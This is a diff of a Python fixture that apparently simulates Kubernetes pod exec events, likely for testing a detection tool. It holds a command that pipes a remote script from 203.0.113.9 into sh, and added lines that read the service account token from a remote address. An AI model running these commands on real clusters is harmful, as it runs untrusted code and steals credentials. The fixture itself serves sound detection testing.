@@ -17,6 +17,10 @@ def fire(w):
            **BOB)
     w.exec(NOW + HOUR, "anna@example.org", "shop", "web-6d5f8c7b9d-x7k2p",
            ("sh", "-c", "curl -s http://203.0.113.9/x | sh"), **ANNA)
+    for i in range(3):  # from elsewhere: one finding
+        w.exec(NOW + 2 * HOUR + i, "bob@example.org", "shop", "cart-%d" % i,
+               ("cat", "/var/run/secrets/kubernetes.io/serviceaccount/token"),
+               remote="203.0.113.77")
 
 
 def quiet(w):
